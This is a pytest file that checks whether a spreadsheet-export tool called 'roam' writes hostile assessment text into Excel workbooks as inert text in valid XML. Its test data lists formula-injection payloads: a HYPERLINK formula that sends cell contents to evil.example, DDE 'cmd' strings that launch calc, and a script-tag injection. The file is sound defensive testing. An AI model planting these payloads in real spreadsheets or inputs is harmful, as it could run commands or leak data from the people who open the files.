"""Hostile texts in an assessment reach the workbooks roam writes as plain text, in valid XML.

End to end: an assessment whose every free text is an injection attempt or
carries control characters is saved, read back by `roam export` and by
`roam template`, and the workbooks are opened as a spreadsheet program would.
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from lxml import etree
from openpyxl import load_workbook

from roam.cli import main
from tests.helpers.hostile_text import hostile_assessment

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click here")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\x00\x01\x07\x0b\x0c\x1b[31m red",
    "bell\x07 and escape\x1b and nul\x00 inside",
    "]]><script>alert(1)</script><![CDATA[",
    "&amp; &lt; &#0; &#x1; <f>1+1</f>",
    "x" * 40_000,
]
# Where a spreadsheet would start a formula (see roam.workbooks.inert_cells.FORMULA_TRIGGERS).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
LINK_SCHEMES = ("http://", "https://", "mailto:")


@pytest.fixture(scope="module")
def hostile_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "examplia.yaml"
    hostile_assessment(path, HOSTILE)
    return path


def _run(*args: str) -> None:
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output


def _check_workbook(path: Path) -> None:
    content = path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                part = archive.read(name)
                etree.fromstring(part)  # strict XML 1.0: raises on any broken byte
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in part and b"<f " not in part, f"formula in {name}"
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if not isinstance(cell.value, str):
                    continue
                where = f"{sheet.title}!{cell.coordinate} {cell.value!r}"
                # The value itself never starts a formula, even once saved as CSV: a
                # formula-like text is stored after an apostrophe.
                assert not cell.value.startswith(FORMULA_START), where
                if cell.value.startswith("'") and cell.value[1:].startswith(FORMULA_START):
                    assert cell.data_type == "s", where
                    # Excel's quote prefix keeps it text when someone edits the cell; the
                    # hidden machine-read stamp sheet is not for editing.
                    if sheet.sheet_state == "visible":
                        assert cell.quotePrefix, f"{where} lacks the quote prefix"
            for cell in row:
                link = cell.hyperlink
                if link is not None and link.target:
                    assert link.target.startswith(LINK_SCHEMES), f"link to {link.target!r}"


def _texts_of(path: Path) -> str:
    workbook = load_workbook(path)
    return "\n".join(
        str(cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    )


def test_the_hostile_file_reads_back_as_written(hostile_file: Path) -> None:
    from roam.assessment.loader import load_assessment

    loaded = load_assessment(hostile_file)
    assert loaded.country == "=Examplia"
    assert {a.justification for a in loaded.answers.values()} <= set(HOSTILE)


def test_export_writes_hostile_text_as_text(hostile_file: Path, tmp_path: Path) -> None:
    report = tmp_path / "report.xlsx"
    _run("export", str(hostile_file), "-o", str(report))
    _check_workbook(report)
    texts = _texts_of(report)
    assert "=1+1" in texts  # kept, as text, for the reader to see
    assert "<script>" in texts
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", texts)


def test_template_writes_hostile_text_as_text(hostile_file: Path, tmp_path: Path) -> None:
    template = tmp_path / "template.xlsx"
    _run("template", str(hostile_file), "-o", str(template))
    _check_workbook(template)


def test_export_survives_xml_non_characters(tmp_path: Path) -> None:
    path = tmp_path / "examplia.yaml"
    hostile_assessment(path, ["\ufffe\uffff non-characters", "=1+1\uffff"])
    report = tmp_path / "report.xlsx"
    _run("export", str(path), "-o", str(report))
    _check_workbook(report)
